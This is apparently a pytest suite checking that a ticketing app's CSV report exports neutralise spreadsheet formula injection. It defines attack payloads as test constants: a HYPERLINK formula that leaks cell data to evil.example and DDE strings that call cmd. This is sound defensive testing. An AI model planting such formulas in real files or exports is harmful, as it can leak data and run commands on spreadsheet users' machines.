"""CSV formula injection: no cell of any report export starts a spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from tests.conftest import Api
from tests.support.seed import PASSWORD
from wins.csvsafe import SafeCsvWriter, safe_cell
from wins.reports.service import CSV_KINDS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+2", "'-1+2"),
        ("+33 1 23 45 67", "'+33 1 23 45 67"),
        # Not formulas: unchanged.
        ("General", "General"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        # Numbers stay numbers, given as numbers or as plain decimal text (our durations): a spreadsheet sums them.
        (-3, -3),
        (-2.5, -2.5),
        (Decimal("-1.25"), Decimal("-1.25")),
        ("-3", "-3"),
        ("-12.5", "-12.5"),
        ("+4", "+4"),
        ("0.0", "0.0"),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_writer_neutralises_every_cell_and_keeps_csv_quoting() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow([HYPERLINK, 7, -1, "-1", "x,y"])
    writer.writerows([[AT, None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + HYPERLINK, "7", "-1", "-1", "x,y"], ["'" + AT, ""]]


def _web_login(api: Api, username: str) -> None:
    api.client.cookies.set("wins_login_csrf", "c" * 32)
    r = api.client.post(
        "/login",
        data={"username": username, "password": PASSWORD, "csrf_token": "c" * 32, "next": "/reports"},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text


def test_every_report_csv_neutralises_names_typed_by_managers(api: Api) -> None:
    """Service, counter and staff names reach the tickets, services, staff and hourly exports."""
    manager, admin = api.auth("manager"), api.auth("admin")
    for prefix, name in (("A", HYPERLINK), ("B", DDE)):
        r = api.client.patch(f"/api/v1/services/{api.data.services[prefix]}", json={"name": name}, headers=manager)
        assert r.status_code == 200, r.text
    r = api.client.patch(f"/api/v1/counters/{api.data.counters['1']}", json={"name": AT}, headers=manager)
    assert r.status_code == 200, r.text
    r = api.client.patch(f"/api/v1/users/{api.data.users['staff']}", json={"full_name": MINUS}, headers=admin)
    assert r.status_code == 200, r.text
    for prefix in ("A", "B", "A"):
        api.issue(prefix)
    for _ in range(2):
        called = api.call_next("1")
        assert called is not None
        api.act(called["id"], "complete")

    _web_login(api, "manager")
    cells: dict[str, list[list[str]]] = {}
    for kind in CSV_KINDS:
        r = api.client.get(f"/reports/{kind}.csv")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        cells[kind] = list(csv.reader(io.StringIO(r.text)))
        for row in cells[kind]:
            for cell in row:
                assert not FORMULA_START.match(cell) or PLAIN_NUMBER.match(cell), (kind, cell)

    flat = {kind: {c for row in rows for c in row} for kind, rows in cells.items()}
    assert {"'" + HYPERLINK, "'" + DDE, "'" + AT, "'" + MINUS} <= flat["tickets"]
    assert {"'" + HYPERLINK, "'" + DDE} <= flat["services"]
    assert "'" + MINUS in flat["staff"]
    assert {"'" + HYPERLINK, "'" + DDE} <= set(cells["hourly"][0])
    # The figures are still plain numbers.
    services = {row[0]: row for row in cells["services"][1:]}
    assert services["'" + HYPERLINK][2:4] == ["2", "2"]  # issued, done
    staff_row = cells["staff"][1]
    assert staff_row[0] == "'" + MINUS and int(staff_row[1]) == 2
    assert all(PLAIN_NUMBER.match(c) for row in cells["hourly"][1:] for c in row[1:])
